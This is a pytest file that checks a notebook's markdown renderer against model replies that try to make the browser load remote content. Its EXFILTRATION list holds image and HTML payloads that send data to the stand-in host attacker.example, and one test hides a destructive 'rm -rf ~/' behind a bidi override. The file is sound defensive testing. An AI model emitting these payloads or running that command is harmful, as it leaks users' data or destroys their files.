"""Model text as panel HTML: nothing in a reply makes the browser fetch from another host
by itself (remote images become links), raw HTML is escaped, bidi controls are shown. The
same HTML is what the saved notebook holds; the browser proof is in
test_browser_untrusted.py."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from awf_nb.frontends.notebook.markdown_html import is_remote_url, render_markdown
from awf_nb.frontends.notebook.summary import esc


class Loads(HTMLParser):
    """Every address an HTML text makes a browser fetch without a click: `src`, `srcset`,
    `poster`, `data`, `background`, `<link href>`, `url(...)` in styles."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            value = value or ""
            fetched = ("src", "srcset", "poster", "data", "background", "lowsrc")
            if name in fetched or (tag == "link" and name == "href"):
                self.found.append(value)
            elif name == "style":
                self.found.extend(re.findall(r"url\(([^)]*)\)", value))

    def remote(self) -> list[str]:
        return [address for address in self.found if is_remote_url(address)]


EXFILTRATION = [
    "![x](https://attacker.example/?d=c2VjcmV0)",
    "![x](http://127.0.0.1:9/leak)",
    "![x](//attacker.example/x.png)",
    "![x](\\\\attacker.example/x.png)",  # Markdown's escaped backslash: a relative path
    "![x](HTTPS://ATTACKER.EXAMPLE/x)",
    "![x]( https://attacker.example/spaced )",
    "![x](<https://attacker.example/angle brackets>)",
    '![x](https://attacker.example/t "a title")',
    "![x][ref]\n\n[ref]: https://attacker.example/reference",
    "[![x](https://attacker.example/in-a-link)](https://elsewhere.example)",
    "![x](ftp://attacker.example/x)",
    '<img src="https://attacker.example/raw">',
    "<img src=https://attacker.example/raw2 />",
    '<link rel="preload" as="image" href="https://attacker.example/preload">',
    '<div style="background:url(https://attacker.example/css)">x</div>',
    '<picture><source srcset="https://attacker.example/srcset"></picture>',
    '<svg><image href="https://attacker.example/svg"/></svg>',
]


@pytest.mark.parametrize("reply", EXFILTRATION)
def test_nothing_in_a_reply_loads_from_another_host_without_a_click(reply: str) -> None:
    rendered = render_markdown(f"Here you go:\n\n{reply}\n\nDone.")

    assert Loads(rendered).remote() == []
    assert "attacker.example" in rendered or "127.0.0.1" in rendered  # shown, not dropped


def test_a_remote_image_is_a_link_that_says_where_it_goes() -> None:
    rendered = render_markdown("![the chart](https://charts.example/q?d=abc)")

    assert rendered == (
        '<p><a class="awf-remote-image" href="https://charts.example/q?d=abc" '
        'target="_blank" rel="noopener noreferrer" '
        'title="not loaded: https://charts.example/q?d=abc">🖼 the chart (charts.example)</a>'
        "</p>\n"
    )


@pytest.mark.parametrize(
    "image",
    ["![dot](data:image/png;base64,iVBORw0KGgo=)", "![local](plot.png)", "![up](../img/a.png)"],
)
def test_data_and_relative_images_stay_images(image: str) -> None:
    rendered = render_markdown(image)

    assert rendered.startswith("<p><img src=") and Loads(rendered).remote() == []


@pytest.mark.parametrize(
    ("url", "remote"),
    [
        ("https://a.example/x", True),
        ("http://127.0.0.1:8888/x", True),
        ("//a.example/x", True),
        ("\\\\a.example/x", True),
        ("/\\a.example/x", True),
        (" \t//a.example/x", True),
        ("ht\ttps://a.example/x", True),  # a browser drops the tab
        ("HTTPS://a.example", True),
        ("mailto:someone@example.com", True),
        ("data:image/png;base64,AAAA", False),
        ("DATA:image/png;base64,AAAA", False),
        ("plot.png", False),
        ("/files/plot.png", False),
        ("../plot.png", False),
        ("?q=1", False),
        ("#top", False),
        ("", False),
    ],
)
def test_which_addresses_are_remote(url: str, remote: bool) -> None:
    assert is_remote_url(url) is remote


def test_bidi_controls_in_a_reply_are_shown_not_obeyed() -> None:
    # "Trojan Source": RLO makes the end of the line read backwards.
    rendered = render_markdown("run `rm -rf ~/ \u202e#safe` and \u2066ok\u2069")

    assert "\u202e" not in rendered and "\u2066" not in rendered and "\u2069" not in rendered
    assert "⟨U+202E⟩" in rendered and "⟨U+2066⟩ok⟨U+2069⟩" in rendered


def test_escaped_text_shows_bidi_controls_too() -> None:
    assert esc('Bash({"command": "echo \u202eabc"})') == (
        "Bash({&quot;command&quot;: &quot;echo ⟨U+202E⟩abc&quot;})"
    )
